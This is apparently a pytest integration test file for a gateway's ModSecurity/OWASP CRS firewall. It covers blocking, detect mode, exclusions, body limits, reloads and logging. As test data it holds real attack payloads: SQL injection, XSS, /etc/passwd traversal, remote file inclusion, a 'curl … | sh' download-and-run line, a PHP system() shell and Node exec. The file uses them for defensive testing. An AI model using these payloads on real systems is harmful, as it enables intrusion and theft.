"""The WAF through the real gateway (docs/waf.md): ModSecurity with the OWASP CRS as
Debian ships it, real attacks of each family the CRS covers at paranoia 1 in the places
they arrive, benign traffic that must pass, detect mode, exclusions, the body limit and a
reload. A blocked request never reaches the upstream."""
import hashlib
import json
import os
import signal
import time
import urllib.parse

import pytest

from tests.support.client import request
from tests.support.processes import wait_for

pytestmark = pytest.mark.skipif(not os.path.isdir("/usr/share/modsecurity-crs/rules"),
                                reason="needs modsecurity-crs (make test installs it)")

CONFIG = """
waf: {{paranoia: 1, mode: {mode}{extra}}}
access_log: true
upstreams:
  app: {{targets: ["{upstream}"]}}
routes:
  - name: open
    match: {{prefix: /open}}
    upstream: app
    waf: off
  - name: app
    match: {{prefix: /}}
    upstream: app
"""

# A browser-like request: the CRS scores a request without User-Agent or Accept (920310, 920320).
BROWSER = "Host: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n"


@pytest.fixture(scope="module")
def gw(upstream):
    from tests.support.processes import Gateway

    g = Gateway(CONFIG.format(mode="block", extra="", upstream=upstream.url)).start()
    yield g
    g.cleanup()


def send(g, method, target, headers="", body=b""):
    if body:
        headers += f"Content-Length: {len(body)}\r\n"
    return request(g.port, f"{method} {target} HTTP/1.1\r\n{BROWSER}{headers}\r\n".encode() + body, method)


def query(g, name, value):
    return send(g, "GET", f"/search?{name}=" + urllib.parse.quote(value, safe=""))


def form(g, name, value):
    return send(g, "POST", "/submit", "Content-Type: application/x-www-form-urlencoded\r\n",
                f"{name}={urllib.parse.quote(value, safe='')}".encode())


def json_body(g, name, value):
    return send(g, "POST", "/api", "Content-Type: application/json\r\n", json.dumps({name: value}).encode())


def cookie(g, name, value):
    return send(g, "GET", "/page", f"Cookie: {name}={urllib.parse.quote(value, safe='')}\r\n")


ATTACKS = {
    "sqli": ("1' OR '1'='1' --", (query, form, json_body, cookie)),
    "sqli-union": ("1 UNION SELECT username, password FROM users", (query, form, json_body, cookie)),
    "xss": ("<script>alert(document.cookie)</script>", (query, form, json_body, cookie)),
    "xss-event": ('<img src=x onerror="alert(1)">', (query, form, json_body)),
    "lfi": ("../../../../etc/passwd", (query, form, json_body)),
    "rfi": ("http://203.0.113.9/shell.txt?", (query, form)),
    "rce": ("; cat /etc/passwd", (query, form, json_body)),
    "rce-subshell": ("$(curl http://203.0.113.9/x.sh | sh)", (query, form, json_body)),
    "php": ("<?php system($_GET['c']); ?>", (query, form, json_body)),
    "nodejs": ("require('child_process').exec('id')", (query, form, json_body)),
}


@pytest.mark.parametrize("family", sorted(ATTACKS))
def test_attacks_of_every_family_are_blocked_where_they_arrive(gw, upstream, family):
    value, places = ATTACKS[family]
    for place in places:
        seen = len(upstream.requests)
        r = place(gw, "q" if place is not cookie else "session", value)
        assert r.status == 403, (family, place.__name__, r.status, r.body)
        problem = json.loads(r.body)
        assert problem["rules"] and 949110 in problem["rules"], problem
        assert problem["score"] >= 5
        assert len(upstream.requests) == seen, "a blocked request reached the upstream"


def test_protocol_attacks_are_blocked(gw, upstream):
    # Request splitting through a header (921140-ish): CR LF in a value cannot pass the parser,
    # so the CRS's own protocol family is shown with what reaches it: a header injection
    # in the query (921151) and an HTTP request smuggled into an argument (921110).
    r = query(gw, "q", "x\r\nSet-Cookie: admin=1")
    assert r.status == 403 and any(921000 <= rule < 922000 for rule in json.loads(r.body)["rules"])
    r = form(gw, "q", "GET /admin HTTP/1.1\r\nHost: x\r\n\r\n")
    assert r.status == 403


BENIGN = [
    ("GET", "/search?q=" + urllib.parse.quote("O'Reilly books"), "", b""),
    ("GET", "/search?q=" + urllib.parse.quote('"quoted phrase" and more'), "", b""),
    ("GET", "/products?page=2&sort=price&order=desc", "", b""),
    ("POST", "/api/orders", "Content-Type: application/json\r\n",
     json.dumps({"items": [{"sku": "A-1", "qty": 2}], "note": "Leave it at the door, please"}).encode()),
    ("POST", "/api/docs", "Content-Type: application/json\r\n",
     # Markdown; not a [link](url): CRS 3.3's 933210 reads `link(` as a PHP call, in nginx too (docs/waf.md).
     json.dumps({"body": "# Release notes\n\nSome *markdown*, see https://example.com/notes and **bold** "
                          "text.\n\n- first item\n- second item\n\n> a quote"}).encode()),
    ("POST", "/login", "Content-Type: application/x-www-form-urlencoded\r\n", b"user=alice&password=s3cret%21"),
]


@pytest.mark.parametrize("method,target,headers,body", BENIGN)
def test_benign_traffic_passes(gw, upstream, method, target, headers, body):
    seen = len(upstream.requests)
    r = send(gw, method, target, headers, body)
    assert r.status == 200, (target, r.body)
    assert len(upstream.requests) == seen + 1


def test_a_route_may_opt_out(gw, upstream):
    r = send(gw, "GET", "/open?q=" + urllib.parse.quote("1' OR '1'='1' --"))
    assert r.status == 200


def test_verdicts_are_logged_and_counted(gw):
    assert query(gw, "q", "<script>alert(1)</script>").status == 403
    assert query(gw, "q", "plain words").status == 200
    time.sleep(1.2)
    lines = [json.loads(x) for x in gw.stdout().splitlines() if x.startswith("{")]
    assert {line["waf"] for line in lines if line["route"] == "app"} >= {"blocked", "passed"}
    blocked = [line for line in lines if line["waf"] == "blocked"][-1]
    assert 941100 in blocked["waf_rules"] and 949110 in blocked["waf_rules"] and blocked["waf_score"] >= 5
    passed = [line for line in lines if line["waf"] == "passed"][-1]
    assert passed["waf_rules"] == [] and passed["waf_score"] == 0
    status, metrics = gw.get_admin("/metrics")
    text = metrics.decode()
    assert 'tollhouse_waf_requests_total{outcome="blocked",route="app"}' in text
    assert 'tollhouse_waf_rule_hits_total{rule="949110"}' in text


def test_detect_mode_passes_logs_and_counts(gateway_factory, upstream):
    g = gateway_factory(CONFIG.format(mode="detect", extra="", upstream=upstream.url))
    seen = len(upstream.requests)
    r = query(g, "q", "1' OR '1'='1' --")
    assert r.status == 200 and len(upstream.requests) == seen + 1
    time.sleep(1.2)
    lines = [json.loads(x) for x in g.stdout().splitlines() if x.startswith("{")]
    assert lines[-1]["waf"] == "detected"
    assert 'tollhouse_waf_requests_total{outcome="detected",route="app"}' in g.get_admin("/metrics")[1].decode()


def test_an_exclusion_by_rule_and_target(gateway_factory, upstream):
    excluded = ", exclusions: [{rule: 942100, target: 'ARGS:search'}]"
    g = gateway_factory(CONFIG.format(mode="block", extra=excluded, upstream=upstream.url))
    payload = "1' OR '1'='1'"
    assert query(g, "search", payload).status == 200   # 942100 no longer looks at ARGS:search
    assert query(g, "q", payload).status == 403          # but still at every other argument


def test_the_body_limit_refuses_or_passes_uninspected(gateway_factory, upstream):
    g = gateway_factory(CONFIG.format(mode="block", extra=", body_limit: 1KiB", upstream=upstream.url))
    big = json.dumps({"q": "x" * 2000}).encode()
    assert send(g, "POST", "/api", "Content-Type: application/json\r\n", big).status == 413
    g2 = gateway_factory(CONFIG.format(mode="block", extra=", body_limit: 1KiB, on_body_limit: pass",
                                       upstream=upstream.url))
    assert send(g2, "POST", "/api", "Content-Type: application/json\r\n", big).status == 200
    attack = json.dumps({"q": "<script>alert(1)</script>", "pad": "x" * 2000}).encode()
    assert send(g2, "POST", "/api", "Content-Type: application/json\r\n", attack).status == 200   # uninspected


def test_bad_rules_and_exclusions_are_errors_naming_them(tmp_path, upstream):
    import subprocess
    import sys

    bad = tmp_path / "bad.conf"
    bad.write_text('SecRule ARGS "@rx x" "id:1000001,phase:2,deny,nosuchaction"\n')
    for extra, named in ((", exclusions: [{rule: 999999999}]", "waf.exclusions"),
                         (f", rules: [{bad}]", "waf.rules"),
                         (", crs_dir: /nowhere", "waf.crs_dir")):
        path = tmp_path / "g.yaml"
        path.write_text(CONFIG.format(mode="block", extra=extra, upstream=upstream.url))
        out = subprocess.run([sys.executable, "-m", "tollhouse", "check", "-c", str(path)], capture_output=True,
                             text=True)
        assert out.returncode == 1 and named in out.stdout + out.stderr, (extra, out.stdout, out.stderr)


def test_a_reload_swaps_the_rules_and_bad_rules_keep_the_old_set(gateway_factory, upstream, tmp_path):
    g = gateway_factory(CONFIG.format(mode="block", extra="", upstream=upstream.url))
    payload = "1' OR '1'='1' --"
    assert query(g, "q", payload).status == 403
    g.write_config(CONFIG.format(mode="detect", extra="", upstream=upstream.url))
    g.signal(signal.SIGHUP)
    wait_for(lambda: query(g, "q", payload).status == 200, timeout=10)
    bad = tmp_path / "bad.conf"
    bad.write_text('SecRule ARGS "@rx x" "id:1000001,phase:2,deny,nosuchaction"\n')
    g.write_config(CONFIG.format(mode="block", extra=f", rules: [{bad}]", upstream=upstream.url))
    g.signal(signal.SIGHUP)
    time.sleep(1.5)
    assert query(g, "q", payload).status == 200   # the old (detect) set still serves
    assert "waf.rules" in g.stderr()


def test_multipart_fields_are_inspected(gw, upstream):
    boundary = "----tollhouse"
    def multipart(value):
        return (f"--{boundary}\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{value}\r\n"
                f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n"
                f"Content-Type: text/plain\r\n\r\nhello\r\n--{boundary}--\r\n").encode()
    ctype = f"Content-Type: multipart/form-data; boundary={boundary}\r\n"
    assert send(gw, "POST", "/upload", ctype, multipart("a fine comment")).status == 200
    seen = len(upstream.requests)
    r = send(gw, "POST", "/upload", ctype, multipart("<script>alert(1)</script>"))
    assert r.status == 403 and 941100 in json.loads(r.body)["rules"]
    assert len(upstream.requests) == seen


def test_a_body_arriving_in_pieces_is_judged_whole(gw, upstream):
    """The body is streamed into the engine as it arrives: an attack split across pieces
    that arrive apart (a chunked body, the length unknown up front) is still seen, and a
    clean body sent the same way reaches the upstream whole."""
    from tests.support.client import RawClient

    def pieces(body: bytes):
        c = RawClient(gw.port)
        try:
            c.send(f"POST /api HTTP/1.1\r\n{BROWSER}Content-Type: application/json\r\n"
                   "Transfer-Encoding: chunked\r\n\r\n".encode())
            for at in range(0, len(body), 7):
                piece = body[at:at + 7]
                c.send(b"%x\r\n%s\r\n" % (len(piece), piece))
                time.sleep(0.02)   # each piece its own read
            c.send(b"0\r\n\r\n")
            return c.response("POST")
        finally:
            c.close()

    seen = len(upstream.requests)
    r = pieces(json.dumps({"comment": "<script>alert(document.cookie)</script>"}).encode())
    assert r.status == 403 and 941100 in json.loads(r.body)["rules"]
    assert len(upstream.requests) == seen
    clean = json.dumps({"comment": "a fine comment, sent slowly", "n": list(range(20))}).encode()
    assert pieces(clean).status == 200
    assert upstream.requests[-1]["sha256"] == hashlib.sha256(clean).hexdigest()


def test_the_debug_header_explains_the_verdict(gateway_factory, upstream):
    g = gateway_factory("debug: {token: waf-debug}\n" + CONFIG.format(mode="block", extra="", upstream=upstream.url))
    r = send(g, "GET", "/search?q=" + urllib.parse.quote("<script>alert(1)</script>"), "X-Tollhouse-Debug: waf-debug\r\n")
    assert r.status == 403
    explain = r.getheader("x-tollhouse-explain")
    assert "waf=blocked" in explain and "waf_rules=" in explain and "949110" in explain, explain


def test_the_span_carries_the_verdict(gateway_factory, upstream):
    from tests.integration.test_tracing import Collector, attrs

    collector = Collector()
    try:
        g = gateway_factory(f"tracing: {{endpoint: {collector.url}, sampler: {{type: ratio, ratio: 1.0}}}}\n"
                            + CONFIG.format(mode="block", extra="", upstream=upstream.url))
        assert query(g, "q", "<script>alert(1)</script>").status == 403
        wait_for(lambda: any(s.kind == 2 for s in collector.spans), timeout=10)
        span = next(s for s in collector.spans if s.kind == 2)
        a = attrs(span)
        assert "949110" in a["tollhouse.waf_rules"].split(",") and a["tollhouse.waf_score"] >= 5
        assert "inspect" in [e.name for e in span.events]   # the WAF's decision, as every policy's
    finally:
        collector.stop()
